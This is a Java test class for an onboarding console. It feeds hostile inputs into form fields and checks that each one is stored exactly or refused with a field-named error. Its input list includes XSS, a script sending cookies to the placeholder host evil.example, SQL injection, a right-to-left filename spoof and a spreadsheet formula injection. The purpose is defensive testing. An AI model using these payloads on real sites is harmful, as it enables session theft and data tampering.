package com.onboarding.console;

import static com.onboarding.console.checklist.Steps.code;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import com.onboarding.console.aws.credentials.CredentialsField;
import com.onboarding.console.aws.credentials.CredentialsService;
import com.onboarding.console.aws.sandbox.SandboxAws;
import com.onboarding.console.base.domain.FieldKey;
import com.onboarding.console.base.domain.InvalidInputException;
import com.onboarding.console.checklist.Steps;
import com.onboarding.console.checklist.domain.StepStatus;
import com.onboarding.console.checklist.service.ChecklistService;
import com.onboarding.console.customers.domain.Customer;
import com.onboarding.console.customers.service.CustomerDraft;
import com.onboarding.console.customers.service.CustomerFilter;
import com.onboarding.console.customers.service.CustomerService;
import com.onboarding.console.payer.service.PayerField;
import com.onboarding.console.payer.service.PayerLookupService;
import com.onboarding.console.security.domain.AppUserRepository;
import com.onboarding.console.security.domain.Role;
import com.onboarding.console.security.service.AccountService;
import com.onboarding.console.security.service.UserAdminService;
import com.onboarding.console.security.service.UserDraft;
import java.util.List;
import java.util.Objects;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.function.BiFunction;
import java.util.function.Function;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.crypto.password.PasswordEncoder;

/**
 * The text fields of the forms (customers, users, passwords, step notes and reasons, pasted credentials, payer
 * lookups) with what an attacker or a careless paste would type: each is either refused with a message that names
 * the field, leaving nothing saved or changed, or kept exactly.
 */
public class HostileInputTest extends ConsoleTest {

    public static final List<String> HOSTILE = List.of(
            "<img src=x onerror=alert(1)>",
            "<script>document.location='http://evil.example/'+document.cookie</script>",
            "x".repeat(10_000),
            "Robert'); DROP TABLE customer;--",
            "' OR '1'='1",
            "50%_\\",
            "bell\u0007ring",
            "two\nlines",
            "tab\tbed",
            "evil\u202Etxt.exe",
            "zero\u200Bwidth",
            "Ünïcödé 名前 \uD83D\uDE00\uD83C\uDDE9\uD83C\uDDEA",
            "=HYPERLINK(\"http://evil.example\")");

    /** Whether the text has what no single line takes: a line break, a tab, a control or formatting character. */
    public static boolean notOneLine(String text) {
        return text.strip().codePoints().anyMatch(c -> Character.isISOControl(c)
                || Character.getType(c) == Character.FORMAT);
    }

    private record Field(String label, BiFunction<CustomerDraft, String, CustomerDraft> with,
            Function<Customer, @Nullable String> read) {
    }

    private static final List<Field> CUSTOMER_FIELDS = List.of(
            new Field("Name", (d, v) -> new CustomerDraft(v, d.accountId(), d.csmUserId(), d.billingCountry(),
                    d.rootEmail(), d.payerAccountId(), d.notes()), Customer::getName),
            new Field("Management account id", (d, v) -> new CustomerDraft(d.name(), v, d.csmUserId(),
                    d.billingCountry(), d.rootEmail(), d.payerAccountId(), d.notes()), Customer::getAccountId),
            new Field("Billing country", (d, v) -> new CustomerDraft(d.name(), d.accountId(), d.csmUserId(), v,
                    d.rootEmail(), d.payerAccountId(), d.notes()), Customer::getBillingCountry),
            new Field("Root email", (d, v) -> new CustomerDraft(d.name(), d.accountId(), d.csmUserId(),
                    d.billingCountry(), v, d.payerAccountId(), d.notes()), Customer::getRootEmail),
            new Field("Payer account id", (d, v) -> new CustomerDraft(d.name(), d.accountId(), d.csmUserId(),
                    d.billingCountry(), d.rootEmail(), v, d.notes()), Customer::getPayerAccountId),
            new Field("Notes", (d, v) -> new CustomerDraft(d.name(), d.accountId(), d.csmUserId(),
                    d.billingCountry(), d.rootEmail(), d.payerAccountId(), v), Customer::getNotes));

    @Autowired
    private CustomerService customers;

    @Autowired
    private UserAdminService userAdmin;

    @Autowired
    private ChecklistService checklists;

    @Autowired
    private CredentialsService credentials;

    @Autowired
    private SandboxAws sandbox;

    @Autowired
    private PayerLookupService payers;

    @Autowired
    private AccountService accounts;

    @Autowired
    private AppUserRepository users;

    @Autowired
    private PasswordEncoder passwords;

    @Test
    void newCustomersTakeHostileTextExactlyOrRefuseItWithNothingSaved() {
        runAs("ops");
        for (var field : CUSTOMER_FIELDS) {
            for (var hostile : HOSTILE) {
                var draft = field.with().apply(validDraft(), hostile);
                var countBefore = customers.count(everyone());
                var refusal = catchThrowable(() -> {
                    var created = customers.create(draft);
                    assertThat(field.read().apply(customers.get(created.id())))
                            .as("%s kept as typed", field.label()).isEqualTo(hostile.strip());
                });
                if (refusal != null) {
                    assertRefused(refusal, field.label(), hostile);
                    assertThat(customers.count(everyone())).as("nothing saved").isEqualTo(countBefore);
                }
            }
        }
    }

    @Test
    void editsTakeHostileTextExactlyOrRefuseItWithNothingChanged() {
        runAs("ops");
        var customer = customers.create(validDraft());
        for (var field : CUSTOMER_FIELDS) {
            for (var hostile : HOSTILE) {
                var before = customers.get(customer.id());
                var draft = field.with().apply(draftOf(before), hostile);
                var refusal = catchThrowable(() -> customers.update(before.id(), before.getVersion(), draft));
                var after = customers.get(customer.id());
                if (refusal == null) {
                    assertThat(field.read().apply(after)).as("%s kept as typed", field.label())
                            .isEqualTo(hostile.strip());
                } else {
                    assertRefused(refusal, field.label(), hostile);
                    assertThat(after.getVersion()).as("nothing changed").isEqualTo(before.getVersion());
                    assertThat(draftOf(after)).isEqualTo(draftOf(before));
                }
            }
        }
    }

    @Test
    void newUsersTakeHostileTextExactlyOrRefuseItWithNothingSaved() {
        runAs("admin");
        for (var hostile : HOSTILE) {
            checkUser("Username", hostile, new UserDraft(hostile, "Hostile Test", null, Role.OPS, null));
            checkUser("Display name", hostile, new UserDraft(uniqueUsername(), hostile, null, Role.OPS, null));
            checkUser("Email", hostile, new UserDraft(uniqueUsername(), "Hostile Test", hostile, Role.OPS, null));
        }
    }

    @Test
    void stepNotesAndReasonsTakeHostileTextExactlyOrRefuseItWithNothingRecorded() {
        runAs("ops");
        long id = customers.create(validDraft()).id();
        for (var hostile : HOSTILE) {
            checkStepText("Note", hostile, id, "1.3", () -> checklists.addNote(id, code("1.3"), hostile));
            checkStepText("Note", hostile, id, "1.3", () -> checklists.addInternalNote(id, code("1.3"), hostile));
            var skipped = checkStepText("Reason", hostile, id, "1.2",
                    () -> checklists.skip(id, code("1.2"), Steps.version(checklists, id, "1.2"), hostile));
            if (skipped) {
                assertThat(Steps.line(checklists, id, "1.2").status()).isEqualTo(StepStatus.SKIPPED);
                var reopened = checkStepText("Reason", hostile, id, "1.2", () -> checklists.reopen(id, code("1.2"),
                        Steps.version(checklists, id, "1.2"), hostile));
                if (!reopened) {
                    assertThat(Steps.line(checklists, id, "1.2").status()).as("nothing changed")
                            .isEqualTo(StepStatus.SKIPPED);
                    checklists.reopen(id, code("1.2"), Steps.version(checklists, id, "1.2"), "A plain reason");
                }
            } else {
                assertThat(Steps.line(checklists, id, "1.2").status()).as("nothing changed")
                        .isEqualTo(StepStatus.TODO);
            }
        }
    }

    /** Pasted credentials are never kept as typed: hostile text is refused at its field, and no secret echoed. */
    @Test
    void pastedCredentialsRefuseHostileTextAtTheirField() {
        runAs("ops");
        var customer = customers.create(validDraft());
        var valid = sandbox.issueCredentials(customer.getAccountId());
        for (var hostile : HOSTILE) {
            assertPasteRefused(CredentialsField.ACCESS_KEY_ID.label(), hostile, () -> credentials.paste(customer.id(),
                    customer.getAccountId(), hostile, valid.secretAccessKey(), valid.sessionToken()));
            assertPasteRefused(CredentialsField.SECRET_ACCESS_KEY.label(), hostile, () -> credentials.paste(customer.id(),
                    customer.getAccountId(), valid.accessKeyId(), hostile, valid.sessionToken()));
            assertPasteRefused(CredentialsField.SESSION_TOKEN.label(), hostile, () -> credentials.paste(customer.id(),
                    customer.getAccountId(), valid.accessKeyId(), valid.secretAccessKey(), hostile));
        }
    }

    /** A password is taken exactly as typed (any character a person can type) or refused with its rule. */
    @Test
    void passwordsTakeHostileTextExactlyOrRefuseItWithNothingChanged() {
        runAs("admin");
        var person = fixture().user(Role.OPS, null);
        long id = Objects.requireNonNull(person.getId());
        var current = person.getUsername();
        for (var hostile : HOSTILE) {
            runAs("admin");
            checkPassword(id, hostile, () -> userAdmin.resetPassword(id, hostile));
            userAdmin.resetPassword(id, current + " again");
            current = current + " again";
            runAs(person.getUsername());
            var typed = current;
            if (checkPassword(id, hostile, () -> accounts.changeOwnPassword(typed, hostile))) {
                current = hostile;
            }
        }
    }

    private boolean checkPassword(long userId, String hostile, Runnable change) {
        var before = users.findById(userId).orElseThrow().getPasswordHash();
        var refusal = catchThrowable(change::run);
        var after = users.findById(userId).orElseThrow().getPasswordHash();
        if (refusal == null) {
            assertThat(passwords.matches(hostile, after)).as("the password as typed").isTrue();
            return true;
        }
        assertRefused(refusal, "New password", hostile);
        assertThat(after).as("nothing changed").isEqualTo(before);
        return false;
    }

    /** No hostile text is an account id: the lookup refuses it; the list lookup answers each entry's error. */
    @Test
    void payerLookupsRefuseHostileText() {
        runAs("csm");
        for (var hostile : HOSTILE) {
            assertRefused(catchThrowable(() -> payers.lookup(hostile)), PayerField.ACCOUNT_ID.label(), hostile);
            var refusal = catchThrowable(() -> assertThat(payers.lookupAll(hostile)).isNotEmpty()
                    .allSatisfy(line -> {
                        assertThat(line.answer()).as("an answer for %s", line.input()).isNull();
                        assertThat(line.error()).isNotBlank().doesNotContain("Exception").hasSizeLessThan(400);
                    }));
            if (refusal != null) {
                assertRefused(refusal, PayerField.ACCOUNT_IDS.label(), hostile);
            }
        }
    }

    private static void assertPasteRefused(String label, String hostile, Runnable paste) {
        var refusal = catchThrowable(paste::run);
        assertRefused(refusal, label, hostile);
        assertThat(refusal.getMessage()).as("the pasted text is not repeated").doesNotContain(hostile.strip());
    }

    /**
     * Writes hostile text to a step; kept, it is the end of the step's newest history entry exactly; refused,
     * the history is as before. Returns whether it was kept.
     */
    private boolean checkStepText(String label, String hostile, long customerId, String code, Runnable write) {
        var before = checklists.history(customerId, code(code));
        var refusal = catchThrowable(write::run);
        var after = checklists.history(customerId, code(code));
        if (refusal == null) {
            assertThat(after.getFirst().what()).as("%s kept as typed", label).endsWith(hostile.strip());
            return true;
        }
        assertRefused(refusal, label, hostile);
        assertThat(after).as("nothing recorded").isEqualTo(before);
        return false;
    }

    private void checkUser(String label, String hostile, UserDraft draft) {
        var countBefore = userAdmin.list().size();
        var refusal = catchThrowable(() -> {
            var id = userAdmin.create(draft, "a long enough password 1");
            var saved = userAdmin.list().stream().filter(u -> u.id() == id).findFirst().orElseThrow();
            var kept = switch (label) {
                case "Username" -> saved.username();
                case "Display name" -> saved.displayName();
                default -> saved.email();
            };
            assertThat(kept).as("%s kept as typed", label).isEqualTo(hostile.strip());
        });
        if (refusal != null) {
            assertRefused(refusal, label, hostile);
            assertThat(userAdmin.list()).as("nothing saved").hasSize(countBefore);
        }
    }

    public static void assertRefused(Throwable refusal, String label, String hostile) {
        assertThat(refusal).as("%s with %s", label, hostile.length() > 40 ? hostile.substring(0, 40) : hostile)
                .isInstanceOf(InvalidInputException.class);
        var invalid = (InvalidInputException) refusal;
        assertThat(invalid.field().map(FieldKey::label)).contains(label);
        assertThat(invalid.getMessage()).isNotBlank().doesNotContain("Exception").hasSizeLessThan(400);
    }

    private static CustomerDraft validDraft() {
        var account = String.valueOf(ThreadLocalRandom.current().nextLong(100_000_000_000L, 999_999_999_999L));
        return new CustomerDraft("Hostile " + UUID.randomUUID(), account, null, "DE", null, null, null);
    }

    private static CustomerDraft draftOf(Customer c) {
        return new CustomerDraft(c.getName(), c.getAccountId(), c.getCsmUserId(), c.getBillingCountry(),
                c.getRootEmail(), c.getPayerAccountId(), c.getNotes());
    }

    private static String uniqueUsername() {
        return "hostile-" + UUID.randomUUID().toString().substring(0, 8);
    }

    private static CustomerFilter everyone() {
        return CustomerFilter.ACTIVE;
    }
}
